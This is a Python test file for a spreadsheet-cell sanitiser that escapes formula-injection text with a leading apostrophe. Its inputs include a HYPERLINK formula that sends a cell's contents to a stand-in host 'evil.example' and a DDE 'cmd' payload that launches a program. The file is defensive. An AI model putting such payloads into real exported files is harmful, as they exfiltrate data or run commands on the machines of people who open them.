import datetime as dt
from decimal import Decimal

import pytest

from pcitrack.core.cells import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Phòng Nội chính", "Tỷ lệ = 80%", "", " =1+1", None, 0, -3.5, Decimal("-2"), 7])
def test_other_text_and_every_number_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_row_keeps_its_numbers_and_dates():
    day = dt.date(2024, 3, 5)
    assert safe_row(["=1+1", -1, day, None]) == ["'=1+1", -1, day, None]
